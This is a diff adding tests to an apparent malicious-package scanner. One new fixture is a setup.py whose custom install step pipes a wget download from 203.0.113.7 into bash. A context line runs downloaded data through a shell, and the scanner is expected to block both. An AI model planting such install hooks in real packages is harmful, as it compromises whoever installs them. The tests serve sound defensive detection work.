@@ -389,3 +389,21 @@ def test_the_same_main_running_a_download_on_install_still_blocks(rules):
         "        subprocess.call(data.decode(), shell=True)\n"
         "    setup(name='widgetry')\n\nif __name__ == '__main__':\n    main()\n")
     assert scan({"setup.py": setup}, rules).verdict in BLOCKING
+
+
+def test_a_comment_line_inside_a_docstring_does_not_end_its_prose(rules):
+    module = ('class Bot:\n    """A bot.\n\n    Example::\n\n        # code\n        bot.run()\n\n'
+              '    Args:\n        base_url: Defaults to ``"https://api.telegram.org/bot"``.\n    """\n'
+              '    def __init__(self, base_url=None):\n        self.base_url = base_url\n')
+    result = scan({"widgetry/bot.py": module, "widgetry/__init__.py": ""}, rules)
+    assert all(f.points <= 3 for f in result.findings)
+
+
+def test_the_closing_quote_of_a_mid_line_string_does_not_open_a_docstring(rules):
+    setup = SETUP_HEAD + (
+        "import os\nfrom setuptools.command.install import install\n\n"
+        'classifiers = """\\\nProgramming Language :: Python\nTopic :: System :: Logging\n"""\n\n'
+        "class CustomInstall(install):\n    def run(self):\n        install.run(self)\n"
+        "        os.system('wget -qO - https://203.0.113.7/install.sh | bash')\n\n"
+        "setup(name='widgetry', classifiers=classifiers.splitlines(), cmdclass={'install': CustomInstall})\n")
+    assert scan({"setup.py": setup}, rules).verdict in BLOCKING
